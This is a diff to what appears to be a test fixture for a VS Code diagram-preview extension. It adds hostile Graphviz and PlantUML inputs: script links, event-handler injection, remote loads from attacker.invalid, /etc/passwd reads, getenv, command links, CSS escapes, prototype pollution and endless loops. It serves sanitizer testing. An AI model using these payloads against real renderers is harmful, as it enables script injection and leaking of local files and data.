@@ -1,4 +1,4 @@
-/** Diagrams that try to run script, to load something, or to dress up the panel. `run` in a page is their sign of success. */
+/** Mermaid diagrams that try to run script, to load something, or to dress up the panel. `run` in a page is their sign of success. */
 const run = 'globalThis.attacked=1;try{top.attacked=1}catch{}'
 
 export const hostile: Readonly<Record<string, string>> = {
@@ -31,6 +31,55 @@ export const hostile: Readonly<Record<string, string>> = {
   'description with script': `flowchart LR\n  accTitle: </title><script>${run}</script>\n  accDescr: </desc><script>${run}</script>\n  a --> b`,
   'prototype keys': `%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\nflowchart LR\n  __proto__ --> constructor`,
   'ids of our page': `flowchart LR\n  panel --> body\n  body --> acquireVsCodeApi`,
+}
+
+export const hostileGraphviz: Readonly<Record<string, string>> = {
+  'script link': `digraph { a [URL="javascript:${run}"] b [href="java\\tscript:${run}"] a -> b [edgeURL="javascript:${run}"] }`,
+  'command link': `digraph { a [URL="command:workbench.action.terminal.new"] b [URL="vscode://evil.ext/x"] c [URL="file:///etc/passwd"] }`,
+  'link of a label and of the graph': `digraph { URL="javascript:${run}" a -> b [label=x labelURL="javascript:${run}" headURL="data:text/html,<script>${run}</script>"] }`,
+  'link in markup': `digraph { a [label=<<table href="javascript:${run}" title="x"><tr><td href="javascript:${run}">x</td></tr></table>>] }`,
+  'remote image': `digraph { a [image="https://attacker.invalid/a.png"] b [shape=none label=<<table><tr><td><img src="https://attacker.invalid/b.png"/></td></tr></table>>] }`,
+  'image of a file': `digraph { a [image="/etc/passwd"] b [shapefile="file:///etc/passwd"] imagepath="/etc" }`,
+  'script in a label': `digraph { a [label="<script>${run}</script>"] b [label=<&lt;img src=x onerror='${run}'&gt;>] }`,
+  'markup that a label does not know': `digraph { a [label=<<script>${run}</script>>] }`,
+  'markup in names': `digraph "<script>${run}</script>" { ""><img src=x onerror='${run}'>" -> b [tooltip="" onload="${run}"] }`,
+  'attributes that leave their place': `digraph { a [id="x" onload="${run}" class="y" onclick="${run}"] }`,
+  'style sheet': `digraph { stylesheet="https://attacker.invalid/style.css" a [class="x" style="filled" fillcolor="url(https://attacker.invalid/fill.png)"] }`,
+  'font that is a style': `digraph { a [fontname="x; } .top { display: none !important } a { b: url(https://attacker.invalid/font.png)"] }`,
+  'colour that is markup': `digraph { a [color="red"/><script>${run}</script><g fill="red"] }`,
+  'ids of our page': 'digraph { panel [id=panel] body [id=body] acquireVsCodeApi [id=acquireVsCodeApi] }',
+  'names of prototypes': 'digraph { __proto__ -> constructor -> toString; a [__proto__=polluted] }',
+}
+
+export const hostilePlantuml: Readonly<Record<string, string>> = {
+  'script link': `@startuml\nA -> B : [[javascript:${run} click]]\nnote left: [[java\tscript:${run} here]]\n@enduml`,
+  'script link of a class': `@startuml\nclass A [[javascript:${run}]]\nurl of A is [[javascript:${run}]]\n@enduml`,
+  'command link': `@startuml\nA -> B : [[command:workbench.action.terminal.new go]] [[vscode://evil.ext/x go]]\n@enduml`,
+  'remote image': `@startuml\nA -> B : <img:https://attacker.invalid/a.png> <img src="https://attacker.invalid/b.png">\n@enduml`,
+  'image of a file': `@startuml\nA -> B : <img:/etc/passwd> <img:file:///etc/passwd>\n@enduml`,
+  'svg image': `@startuml\nA -> B : <img:data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=>\n@enduml`,
+  'sprite with script': `@startuml\nsprite s <svg viewBox="0 0 9 9" onload="${run}"><script>${run}</script><image href="https://attacker.invalid/s.png"/><path d="M0 0h9v9z" onclick="${run}"/></svg>\nA -> B : <$s>\n@enduml`,
+  'sprite from afar': '@startuml\nsprite s https://attacker.invalid/sprite.svg\nA -> B : <$s>\n@enduml',
+  'include from afar':
+    '@startuml\n!include https://attacker.invalid/x.puml\n!includeurl https://attacker.invalid/y.puml\nA -> B\n@enduml',
+  'include of a file': '@startuml\n!include /etc/passwd\nA -> B\n@enduml',
+  'import of an archive': '@startuml\n!import https://attacker.invalid/x.zip\nA -> B\n@enduml',
+  'library that is fetched': '@startuml\n!include <C4/C4_Context>\nPerson(a, "A")\n@enduml',
+  'theme from afar': '@startuml\n!theme evil from https://attacker.invalid/themes\nA -> B\n@enduml',
+  'data from afar':
+    '@startuml\n!$x = %load_json("https://attacker.invalid/x.json")\n!$y = %getenv("PATH")\nA -> B : $x $y %filename() %dirpath()\n@enduml',
+  'markup in a label': `@startuml\nparticipant "<script>${run}</script>" as A\nA -> B : <svg onload="${run}"/> <iframe srcdoc="x">\n@enduml`,
+  'markup in a title': `@startuml\ntitle </title><script>${run}</script>\nheader <b onclick="${run}">x</b>\nA -> B\n@enduml`,
+  'style that leaves':
+    '@startuml\n<style>\nroot { FontName "x; } .top { display: none !important } a {" }\n</style>\nskinparam svgLinkTarget _top\nskinparam defaultFontName url(https://attacker.invalid/f.woff)\nA -> B\n@enduml',
+  'colour that is markup': `@startuml\nclass A\nnote left: <color:"/><script>${run}</script>>x</color>\nclass C #red";onload="${run}\n@enduml`,
+  'dark mode that loads':
+    '@startuml\nskinparam backgroundImage https://attacker.invalid/back.png\n!pragma svginteractive true\nA -> B\n@enduml',
+  'interactive script': '@startuml\n!pragma svginteractive true\nclass A\nclass B\nA --> B\n@enduml',
+  'endless loop': '@startuml\n!while 1 == 1\n!$a = 2\n!endwhile\nA -> B\n@enduml',
+  'endless recursion': '@startuml\n!function $f($x)\n!return $f($x + 1)\n!endfunction\nA -> B : $f(1)\n@enduml',
+  'names of prototypes':
+    '@startuml\nclass __proto__\nclass constructor\n__proto__ --> constructor\n!$__proto__ = {"polluted": 1}\n@enduml',
 }
 
 /** SVG as a careless engine might give it, for the second gate alone. */
